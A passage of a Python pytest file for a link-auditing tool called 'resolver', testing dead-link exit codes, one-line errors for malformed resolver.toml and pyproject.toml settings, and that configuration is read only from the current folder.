    twitter_web: TwitterWeb, tmp_path: Path, args: list[str], code: int, message: str
) -> None:
    twitter_web.web.status("https://dead.example/gone", 404)
    listing = tmp_path / "links.txt"
    listing.write_text("https://dead.example/gone\n", encoding="utf-8")
    done = run("audit", "--no-cache", "--wayback", "off", "-f", "jsonl", "--urls", str(listing), *args)
    assert done.returncode == code, done.stderr
    if message:
        assert message in done.stderr and len(done.stderr.splitlines()) == 1 and not done.stdout


CONFIG_CASES: list[tuple[str, str, str]] = [
    ("resolver.toml", "per_host = true\n", "per_host is a whole number"),
    ("resolver.toml", 'exclude = "x"\n', "exclude is a list"),
    ("resolver.toml", "hosts = []\n", "hosts is a table"),
    ("resolver.toml", 'overrides = "x"\n', "overrides is a list of tables"),
    ("resolver.toml", '[[overrides]]\npattern = "x"\n', "each override has a pattern and a verdict"),
    ("resolver.toml", '[[overrides]]\npattern = "x"\nverdict = "alive"\nreason = "paywall"\n', "unknown setting reason"),
    ("resolver.toml", "exclude = [\n", "cannot read the configuration"),
    ("resolver.toml", "colour = 1\n", "unknown setting colour"),
    ("pyproject.toml", "tool = 3\n", ""),  # no [tool.resolver]: nothing of ours, not an error
    ("pyproject.toml", "[tool]\nresolver = 3\n", "tool.resolver is a table"),
    ("pyproject.toml", "[tool.resolver]\nper_host = 0\n", "per_host is a whole number"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "message"), CONFIG_CASES)
def test_a_bad_configuration_is_one_line_and_exit_2(
    twitter_web: TwitterWeb, tmp_path: Path, name: str, text: str, message: str
) -> None:
    twitter_web.web.page("https://alive.example/a", "<p>a</p>")
    (tmp_path / "links.txt").write_text("https://alive.example/a\n", encoding="utf-8")
    (tmp_path / name).write_text(text, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--urls", "links.txt", "-f", "jsonl"],
        capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=tmp_path,
    )  # fmt: skip
    if not message:
        assert done.returncode == 0, done.stderr
        return
    assert done.returncode == 2 and not done.stdout
    [line] = done.stderr.splitlines()
    assert message in line and name in line


def test_the_configuration_is_read_from_the_current_folder_only(
    twitter_web: TwitterWeb, tmp_path: Path
) -> None:
    web = twitter_web.web
    web.page("https://alive.example/a", "<p>a</p>")
    web.page("https://other.example/b", "<p>b</p>")
    (tmp_path / "links.txt").write_text(
        "https://alive.example/a\nhttps://other.example/b\n", encoding="utf-8"
    )
    (tmp_path / "resolver.toml").write_text('exclude = ["alive\\\\.example"]\n', encoding="utf-8")
    (tmp_path / "pyproject.toml").write_text(
        '[tool.resolver]\nexclude = ["other\\\\.example"]\n', encoding="utf-8"
    )
    (tmp_path / "sub").mkdir()

    def verdicts(cwd: Path, listing: str) -> dict[str, str]:
        done = subprocess.run(
            [sys.executable, "-m", "resolver", "audit", "--no-cache", "--wayback", "off", "--urls", listing, "-f", "jsonl"],
            capture_output=True, text=True, timeout=60, env=dict(os.environ), cwd=cwd,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return {row["url"]: row["verdict"] for row in jsonl(done.stdout)}

    # Both files: resolver.toml wins, and pyproject.toml is not read at all.
    assert verdicts(tmp_path, "links.txt") == {
        "https://alive.example/a": "excluded",
        "https://other.example/b": "alive",
    }
    # Not the parents' files, nor the inputs' folder's: the same command means the same anywhere.
    assert verdicts(tmp_path / "sub", "../links.txt") == {
        "https://alive.example/a": "alive",
        "https://other.example/b": "alive",
    }
